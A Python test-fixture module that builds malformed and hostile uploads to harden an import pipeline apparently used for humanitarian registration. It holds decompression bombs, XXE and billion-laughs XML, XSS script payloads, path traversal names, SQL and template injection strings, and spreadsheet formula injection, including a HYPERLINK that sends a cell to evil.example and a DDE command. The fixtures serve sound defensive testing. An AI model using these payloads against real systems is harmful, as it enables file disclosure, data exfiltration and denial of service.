"""Files and words that mean harm, made the same way each time: nothing of them is stored that a scanner would ring at.

Every maker gives a name (what it is, and what the upload is called) and bytes. A door that broke once keeps its example here.
"""

import io
import json
import struct
import zipfile
import zlib
from typing import Final

import openpyxl
from PIL import Image, ImageCms

XLSX: Final = "lista.xlsx"
GPS_WORDS: Final = b"Xqlugar 14.6349N"


# -- pictures ---------------------------------------------------------------------


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, lines: bytes, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    end = _chunk(b"IDAT", zlib.compress(lines, 9)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(more) + end


def picture(kind: str, mode: str = "RGB", **more: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (64, 48), 90).save(out, kind, **more)
    return out.getvalue()


def moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (32, 32), (n, 90, 30)) for n in range(40)]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def _placed() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = GPS_WORDS.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (14.0, 38.0, 5.64), 3: "W", 4: (90.0, 30.0, 24.0)})
    return exif


def pictures() -> dict[str, tuple[str, bytes]]:
    """By what each is: the name it is called by, and the bytes."""
    jpeg = picture("JPEG")
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    tiff = (
        b"II*\0"
        + struct.pack("<I", 8)
        + struct.pack("<H", 1)
        + struct.pack("<HHII", 256, 4, 1, 8)
        + struct.pack("<I", 8)
    )
    return {
        "nothing": ("a.jpg", b""),
        "one byte": ("a.jpg", b"\xff"),
        "a bomb: 7,900 squared in 180 kB": ("a.png", png(7_900, 7_900, bytes(7_900 * 3 + 1) * 7_900)),
        "a header of 60,000 squared": ("a.png", png(60_000, 60_000, bytes(100))),
        "a header of two thousand million": ("a.png", png(2**31 - 1, 2**31 - 1, b"")),
        "a header of no width": ("a.png", png(0, 9, b"")),
        "a note that unpacks to 20 MB": ("a.png", png(8, 8, bytes(25 * 8), _chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(20_000_000), 9)))),
        "a profile that unpacks to 20 MB": ("a.png", png(8, 8, bytes(25 * 8), _chunk(b"iCCP", b"k\0\0" + zlib.compress(bytes(20_000_000), 9)))),
        "a picture that is a page too": ("a.jpg", jpeg + b"<html><script>alert(1)</script>"),
        "a picture that is a zip too": ("a.jpg", jpeg + _zip({"x.js": b"alert(1)"})),
        "a page that begins like a picture": ("a.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script>"),
        "a gif that is a script": ("a.gif", b"GIF89a/*\0\0\0*/=1;alert(1)//"),
        "svg": ("a.svg", svg),
        "svg called jpg": ("a.jpg", svg),
        "svg with an outside entity": ("a.svg", XXE.encode()),
        "cut in half": ("a.jpg", jpeg[: len(jpeg) // 2]),
        "cut in its header": ("a.jpg", jpeg[:11]),
        "where it was taken": ("a.jpg", picture("JPEG", exif=_placed())),
        "where it was taken, webp": ("a.webp", picture("WEBP", exif=_placed())),
        "a moving gif": ("a.gif", moving("GIF")),
        "a moving webp": ("a.webp", moving("WEBP")),
        "a moving png": ("a.png", moving("PNG")),
        "cmyk": ("a.jpg", picture("JPEG", "CMYK")),
        "a colour profile": ("a.jpg", picture("JPEG", icc_profile=profile)),
        "a colour profile of noise": ("a.jpg", picture("JPEG", icc_profile=bytes(range(256)) * 9)),
        "png called jpg": ("a.jpg", picture("PNG")),
        "sixteen bits": ("a.png", picture("PNG", "I;16")),
        "a palette": ("a.png", picture("PNG", "P")),
        "a windows cursor": ("a.ico", b"\0\0\2\0\1\0\x20\x20" + bytes(60)),
        "a tiff that points at itself": ("a.tif", tiff),
        "postscript": ("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"),
        "a heic of noise": ("a.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(range(256)) * 9),
        "an avif of noise": ("a.avif", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + bytes(range(256)) * 9),
        "a pdf": ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        "an executable": ("a.jpg", b"MZ" + bytes(300)),
        "a name that climbs": ("../../../etc/passwd\0.jpg", jpeg),
        "a name of a thousand letters": ("א" * 1000 + ".jpg", jpeg),
    }  # fmt: skip


# -- sheets -----------------------------------------------------------------------

XXE: Final = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    '<c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'
)
LAUGHS: Final = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {n} "{f"&{m};" * 10}">' for m, n in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)


def _zip(parts: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing, compresslevel=9 if packing else None) as packed:
        for name, body in parts.items():
            packed.writestr(name, body)
    return out.getvalue()


def book(rows: list[list[object]]) -> bytes:
    made = openpyxl.Workbook()
    for row in rows:
        made.active.append(row)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


HEAD: Final = ["No", "Brazalete", "Nombre", "Sexo", "Edad"]
PLAIN: Final = book([HEAD, [1, "R-1", "Sara Núñez", "F", 9]])


def with_part(name: str, body: bytes, *, of: bytes = PLAIN) -> bytes:
    """The same workbook with one part put in or put in place of its own."""
    with zipfile.ZipFile(io.BytesIO(of)) as packed:
        parts = {n: packed.read(n) for n in packed.namelist()}
    return _zip(parts | {name: body})


def sheets() -> dict[str, tuple[str, bytes]]:
    sheet = "xl/worksheets/sheet1.xml"
    begins = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    wide = (
        begins + '<row r="1">' + '<c t="inlineStr"><is><t>a</t></is></c>' * 300_000 + "</row></sheetData></worksheet>"
    )
    far = begins + '<row r="1"><c r="ZZZZZ1"><v>1</v></c></row></sheetData></worksheet>'
    away = begins + '<row r="99999999999999999999"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    deep = begins + "<row>" * 50_000
    links = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    evil = [HEAD, [1, "R-1", '=HYPERLINK("http://evil.example/?"&A1,"Sara")', "F", 9],
            [2, "R-2", "=cmd|'/c calc'!A1", "F", 8], [3, "R-3", "@SUM(1)", "F", 7], [4, "R-4", "+1+1", "F", 7]]  # fmt: skip
    rows = "\n".join([",".join(HEAD), "1,R-1,Sara Núñez,F,9", "2,R-2,משה,H,8"])
    return {
        "a bomb of a thousand to one": (XLSX, with_part(sheet, begins.encode() + b" " * 30_000_000)),
        "a bomb in a part nobody reads": (XLSX, with_part("docProps/extra.xml", bytes(30_000_000))),
        "strings without end": (XLSX, with_part("xl/sharedStrings.xml", b"<sst>" + b"<si><t>a</t></si>" * 400_000)),
        "twenty thousand parts": (XLSX, _zip({f"p/{n}": b"" for n in range(20_000)}, zipfile.ZIP_STORED)),
        "links to another book": (XLSX, with_part("xl/externalLinks/externalLink1.xml", links)),
        "formulas": (XLSX, book(evil)),
        "macros": ("lista.xlsm", with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500))),
        "an outside entity in the sheet": (XLSX, with_part(sheet, XXE.encode())),
        "an outside entity in the strings": (XLSX, with_part("xl/sharedStrings.xml", XXE.encode())),
        "an outside entity in the kinds": (XLSX, with_part("[Content_Types].xml", XXE.encode())),
        "a thousand million laughs": (XLSX, with_part(sheet, (LAUGHS + "<worksheet>&j;</worksheet>").encode())),
        "laughs in UTF-16": (XLSX, with_part(sheet, (LAUGHS + "<worksheet>&j;</worksheet>").encode("utf-16"))),
        "three hundred thousand columns": (XLSX, with_part(sheet, wide.encode())),
        "a column beyond the last": (XLSX, with_part(sheet, far.encode())),
        "a row beyond every number": (XLSX, with_part(sheet, away.encode())),
        "fifty thousand rows inside one another": (XLSX, with_part(sheet, deep.encode())),
        "no sheet": (XLSX, _zip({"[Content_Types].xml": b"<Types/>"})),
        "a path that climbs": (XLSX, with_part("../../../../tmp/xq", b"x")),
        "a name twice in the zip": (XLSX, PLAIN + PLAIN),
        "a zip of noise": (XLSX, b"PK\x03\x04" + bytes(range(256)) * 30),
        "an old book of noise": ("lista.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 30),
        "utf-16": ("lista.csv", rows.encode("utf-16")),
        "utf-16 without a mark": ("lista.csv", rows.encode("utf-16-le")),
        "utf-32": ("lista.csv", rows.encode("utf-32")),
        "half of a letter": ("lista.csv", rows.encode()[:-1] + b"\xd7"),
        "letters of half the world": ("lista.csv", rows.encode() + b"\n\xff\xfe\x81\x8d\x90"),
        "a surrogate alone": ("lista.csv", rows.encode() + b"\n3,R-3,\xed\xa0\x80,F,7"),
        "nothing but nuls": ("lista.csv", bytes(4096)),
        "nul in a name": ("lista.csv", rows.encode().replace(b"Sara", b"Sa\0ra")),
        "one quote and no end": ("lista.csv", rows.encode() + b'\n3,"R-3,' + b"a" * 300_000),
        "a cell of a million letters": ("lista.csv", rows.encode() + b"\n3,R-3," + b"a" * 400_000 + b",F,7"),
        "a line of commas": ("lista.csv", b"," * 1_000_000),
        "a number of a million digits": ("lista.csv", rows.encode() + b"\n" + b"9" * 1_000_000 + b",R-3,Sara,F,7"),
        "an age without end": ("lista.csv", rows.encode() + b"\n3,R-3,Sara,F,1e999\n4,R-4,Sara,F,NaN\n5,R-5,S,F,-9"),
        "sheet of laughs, called csv": ("lista.csv", (LAUGHS + "<a>&j;</a>").encode()),
    }  # fmt: skip


def forms() -> dict[str, tuple[str, bytes]]:
    """Workbooks of questions: those that call themselves, never end, or ask for what is not theirs."""

    def made(*rows: list[object], settings: list[object] | None = None) -> tuple[str, bytes]:
        out, made_book = io.BytesIO(), openpyxl.Workbook()
        survey = made_book.active
        survey.title = "survey"
        for row in [["type", "name", "label", "relevant", "constraint", "calculation"], *rows]:
            survey.append(row)
        if settings:
            sheet = made_book.create_sheet("settings")
            sheet.append(["form_id", "form_title", "version"])
            sheet.append(settings)
        made_book.save(out)
        return "form.xlsx", out.getvalue()

    return {
        "relevant to itself": made(["text", "a", "A", "${a} = 'x'"]),
        "two that wait for one another": made(["calculate", "a", "", "", "", "${b}"], ["calculate", "b", "", "", "", "${a}"]),
        "an expression ten thousand deep": made(["text", "a", "A", "(" * 10_000 + "1" + ")" * 10_000]),
        "an expression of a megabyte": made(["text", "a", "A", "1" + "+1" * 15_000]),
        "a pattern that backtracks for ever": made(["text", "a", "A", "", "regex(., '^(a+)+$')"]),
        "a document read from elsewhere": made(["text", "a", "A", "doc('file:///etc/passwd') = 1"]),
        "a question called __class__": made(["text", "__class__", "{{ A }} ${__class__}"]),
        "groups that never end": made(*[["begin group", f"g{n}", "G"] for n in range(3_000)]),
        "an end without a beginning": made(["end group", "", ""]),
        "a choice without choices": made(["select_one nothing", "a", "A"]),
        "nul and control letters as csv": ("form.csv", b"type,name,label\ntext,a\0,\x01\x02"),
        "a number that divides by nothing": made(["calculate", "a", "", "", "", "1 div 0"], ["calculate", "b", "", "", "", "-1 mod 0"]),
        "a number too large": made(["calculate", "a", "", "", "", "9" * 5_000 + " * " + "9" * 5_000]),
        "a title that is a page": made(["text", "a", "<script>alert(1)</script>"], settings=["f", "<img src=x onerror=1>", "9" * 999]),
    }  # fmt: skip


def registers() -> dict[str, tuple[str, bytes]]:
    """What a lender may send: PFIF, Primero's JSON, tables."""
    ns = 'xmlns:pfif="http://zesty.ca/pfif/1.4"'
    many = " ".join(f"a{n}='1'" for n in range(100_000))
    body = "<pfif:pfif {ns}><pfif:person><pfif:person_record_id>e/p.1</pfif:person_record_id><pfif:full_name>{x}</pfif:full_name></pfif:person></pfif:pfif>"
    outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    far = '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd">'
    param = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>'
    return {
        "an outside entity": ("r.xml", (outside + body.format(ns=ns, x="&x;")).encode()),
        "an outside grammar": ("r.xml", (far + body.format(ns=ns, x="a")).encode()),
        "an outside parameter": ("r.xml", (param + body.format(ns=ns, x="a")).encode()),
        "laughs": ("r.xml", (LAUGHS + body.format(ns=ns, x="&j;")).encode()),
        "laughs in UTF-16": ("r.xml", (LAUGHS + body.format(ns=ns, x="&j;")).encode("utf-16")),
        "a script for the page": ("r.xml", b'<?xml-stylesheet href="javascript:alert(1)"?>' + body.format(ns=ns, x="a").encode()),
        "elements inside one another": ("r.xml", f"<pfif:pfif {ns}>".encode() + b"<pfif:person>" * 60_000),
        "a hundred thousand attributes": ("r.xml", f"<pfif:pfif {ns} {many}/>".encode()),
        "nul in a name": ("r.xml", body.format(ns=ns, x="a&#0;b").encode()),
        "a letter XML has not": ("r.xml", body.format(ns=ns, x="a&#xD800;b").encode()),
        "json inside json": ("r.json", b"[" * 200_000),
        "json that is a number": ("r.json", b"9" * 100_000),
        "json without numbers": ("r.json", b'[{"id": NaN, "name": Infinity}]'),
        "json with a surrogate alone": ("r.json", b'[{"id": "1", "name_first": "\\ud800"}]'),
        "json with a nul": ("r.json", b'[{"id": "1\\u0000", "name_first": "Sa\\u0000ra"}]'),
        "json of the wrong kinds": ("r.json", b'[{"id": [[]], "name_first": {"a": 1}}, 3, null, "x"]'),
        "json said twice": ("r.json", b'[{"id": "1", "id": "2", "name_first": "a"}]'),
        **{f"table: {k}": v for k, v in sheets().items() if k.startswith(("utf", "nul", "half", "an age", "an outside", "formulas"))},
    }  # fmt: skip


# -- JSON, as a program or a phone sends it ---------------------------------------------------------------

GOOD: Final = {
    "id": "z1",
    "operation": "op",
    "at": "2025-12-19T07:00:00-06:00",
    "site": "centro",
    "number": 3,
    "method": "by-eye",
}


def bodies() -> dict[str, bytes]:
    """By what each is: a body for the act `take-headcount`, wrong in one way."""
    good = json.dumps(GOOD)

    def number(text: str) -> bytes:
        return good.replace('"number": 3', f'"number": {text}').encode()

    def site(text: str) -> bytes:
        return good.replace('"centro"', text).encode()

    return {
        "nothing": b"",
        "null": b"null",
        "a list where one is meant": f"[{good}]".encode(),
        "deep": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "deep lists": b"[" * 500_000,
        "just deep enough": site("[" * 41 + "]" * 41),
        "NaN": number("NaN"),
        "Infinity": number("-Infinity"),
        "1e400": number("1e400"),
        "a whole number of a hundred thousand digits": number("9" * 100_000),
        "beyond 64 bits": number("9223372036854775808"),
        "the most 64 bits hold": number("9223372036854775807"),
        "minus nothing": number("-0"),
        "a fraction": number("2.5"),
        "true for a number": number("true"),
        "a field twice": good.replace('"number": 3', '"number": 3, "number": 4').encode(),
        "a field twice, once in disguise": good.replace('"number": 3', '"number": 3, "num\\u0062er": 4').encode(),
        "half a letter": site('"\\ud800"'),
        "half a letter as a name of a field": good.replace('"site"', '"\\udfff"').encode(),
        "half a letter in the id": good.replace('"z1"', '"\\ud800"').encode(),
        "nul": site('"cen\\u0000tro"'),
        "nul in the id": good.replace('"z1"', '"z\\u0000"').encode(),
        "nul as it is": site('"cen\0tro"'),
        "a mark of the order of bytes": b"\xef\xbb\xbf" + good.encode(),
        "utf-16": good.encode("utf-16"),
        "latin": site('"centró"'.encode().decode("latin-1")).decode().encode("latin-1", "ignore") + b"\xe9",
        "something after it": good.encode() + b"{}",
        "a comment": good.encode() + b"//",
        "an id of a megabyte": good.replace("z1", "z" * 1_000_000).encode(),
        "a time before time": good.replace("2025-12-19", "0001-01-01").encode(),
        "a time after time": good.replace("2025-12-19", "9999-12-31").encode(),
        "a zone that is none": good.replace("-06:00", "-99:99").encode(),
        "a field nobody knows": good.replace('"number"', '"__proto__"').encode(),
        "an object for a word": site('{"$ne": ""}'),
    }  # fmt: skip


CODES: Final = (
    "", "\0", "N-01\0", "N-01'; DROP TABLE x--", "٣" * 9, "N" * 100_000, "../c1", "javascript:alert(1)", "\u202eN-01",
    "http://evil.example/N-01", "\ud7ff\ue000", "%00", "{{7*7}}", "N-01\r\nSet-Cookie: a=b", "<img src=x onerror=1>",
)  # fmt: skip
